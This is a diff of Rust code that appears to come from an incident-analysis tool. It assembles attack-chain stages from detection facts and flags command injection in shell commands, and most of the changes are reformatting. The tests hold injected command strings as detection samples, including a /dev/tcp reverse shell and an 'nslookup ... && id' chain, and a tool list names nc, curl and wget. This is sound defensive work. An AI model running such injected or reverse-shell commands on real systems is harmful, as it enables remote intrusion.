@@ -52,12 +52,16 @@ fn stage_of(f: &Fact, stage: &str) -> bool {
     }
     match stage {
         "execution" => {
-            cat == "execution" || has(f, &["proc.lineage.", "proc.download-exec", "proc.interactive-shell", "log.shell."])
+            cat == "execution"
+                || has(f, &["proc.lineage.", "proc.download-exec", "proc.interactive-shell", "log.shell."])
         }
         "persistence" => {
-            cat == "persistence" || has(f, &["file.persistence.", "file.account.", "file.webshell.", "webshell-used"])
+            cat == "persistence"
+                || has(f, &["file.persistence.", "file.account.", "file.webshell.", "webshell-used"])
         }
-        "command and control" => cat == "command-and-control" || has(f, &["proc.revshell", "server-shell-net"]),
+        "command and control" => {
+            cat == "command-and-control" || has(f, &["proc.revshell", "server-shell-net"])
+        }
         "impact" => cat == "impact" || has(f, &["miner"]),
         "cover-up" => has(f, &["antiforensics", "timestomp", "log-wipe"]),
         "escape" => cat == "privilege-escalation" && f.rule.starts_with("proc."),
@@ -109,11 +113,22 @@ pub fn build(facts: &[Fact], requests: &[Request]) -> Vec<ChainStage> {
         (k.is_none(), k)
     };
     // 2. Each later stage: its earliest fact after the way in.
-    for name in ["execution", "persistence", "command and control", "impact", "cover-up", "escape", "lateral movement"] {
+    for name in [
+        "execution",
+        "persistence",
+        "command and control",
+        "impact",
+        "cover-up",
+        "escape",
+        "lateral movement",
+    ] {
         let pick = facts
             .iter()
             .enumerate()
-            .filter(|(i, f)| stage_of(f, name) && (*i != way_in || name == "command and control" || (inferred && name == "execution")))
+            .filter(|(i, f)| {
+                stage_of(f, name)
+                    && (*i != way_in || name == "command and control" || (inferred && name == "execution"))
+            })
             .filter(|(_, f)| after_way_in(&when(f)))
             .min_by_key(|(i, f)| (order(&when(f)), *i));
         if let Some((i, f)) = pick {
@@ -149,14 +164,24 @@ fn inferred_way_in(facts: &[Fact], requests: &[Request]) -> Option<ChainStage> {
         .iter()
         .enumerate()
         .filter(|(_, f)| f.rules.iter().any(|r| r.starts_with("proc.lineage.server-shell")))
-        .min_by_key(|(i, f)| (f.when.as_ref().and_then(When::key).is_none(), f.when.as_ref().and_then(When::key), *i))?;
-    let cmd = f.subject.as_deref().and_then(|s| s.strip_prefix("pid ")).and_then(|s| s.split_once(' ')).map(|(_, c)| c);
+        .min_by_key(|(i, f)| {
+            (f.when.as_ref().and_then(When::key).is_none(), f.when.as_ref().and_then(When::key), *i)
+        })?;
+    let cmd = f
+        .subject
+        .as_deref()
+        .and_then(|s| s.strip_prefix("pid "))
+        .and_then(|s| s.split_once(' '))
+        .map(|(_, c)| c);
     let injection = cmd.is_some_and(looks_injected);
     let when = f.when.clone().unwrap_or_else(|| When::unknown("start of the process it ran"));
     let bound = upper(&when);
     let carrier = requests
         .iter()
-        .filter(|r| contains_host(&f.summary, &r.client) || f.subject.as_deref().is_some_and(|s| contains_host(s, &r.client)))
+        .filter(|r| {
+            contains_host(&f.summary, &r.client)
+                || f.subject.as_deref().is_some_and(|s| contains_host(s, &r.client))
+        })
         .filter(|r| bound.is_none_or_before(r.time))
         .max_by_key(|r| r.time);
     let mut s = stage("way in", i, f, when, None);
@@ -165,9 +190,16 @@ fn inferred_way_in(facts: &[Fact], requests: &[Request]) -> Option<ChainStage> {
     } else {
         format!("Code execution through a server process: {}", f.title)
     };
-    let mut note = "no logged request matched an exploit signature; the way in is read from the process the server ran".to_string();
+    let mut note =
+        "no logged request matched an exploit signature; the way in is read from the process the server ran"
+            .to_string();
     if let Some(r) = carrier {
-        note.push_str(&format!("; the last request from {} before it: {} at {}", r.client, r.line, r.time.to_iso_seconds()));
+        note.push_str(&format!(
+            "; the last request from {} before it: {} at {}",
+            r.client,
+            r.line,
+            r.time.to_iso_seconds()
+        ));
         s.proof.insert(0, r.locator.clone());
     }
     s.note = Some(note);
@@ -190,8 +222,25 @@ pub fn looks_injected(cmd: &str) -> bool {
     let Some((_, script)) = cmd.split_once(" -c ") else { return false };
     let script = script.trim().trim_matches(|c| c == '\'' || c == '"');
     let first = script.split_whitespace().next().unwrap_or("");
-    const APP_TOOLS: &[&str] =
-        &["ping", "nslookup", "host", "dig", "traceroute", "whois", "echo", "ls", "cat", "convert", "ffmpeg", "ps", "df", "uptime", "nc", "curl", "wget"];
+    const APP_TOOLS: &[&str] = &[
+        "ping",
+        "nslookup",
+        "host",
+        "dig",
+        "traceroute",
+        "whois",
+        "echo",
+        "ls",
+        "cat",
+        "convert",
+        "ffmpeg",
+        "ps",
+        "df",
+        "uptime",
+        "nc",
+        "curl",
+        "wget",
+    ];
     APP_TOOLS.contains(&first.rsplit('/').next().unwrap_or(first))
         && [";", "&&", "||", "|", "\n", "`", "$("].iter().any(|sep| script.contains(sep))
 }
@@ -202,7 +251,9 @@ mod tests {
 
     #[test]
     fn injection_shapes() {
-        assert!(looks_injected("sh -c ping  -c 4 127.0.0.1;bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"));
+        assert!(looks_injected(
+            "sh -c ping  -c 4 127.0.0.1;bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"
+        ));
         assert!(looks_injected("sh -c nslookup x.com && id"));
         assert!(!looks_injected("bash -c {echo,YmFz}|{base64,-d}|{bash,-i}"));
         assert!(!looks_injected("/bin/sh -c /usr/local/bin/start.sh"));
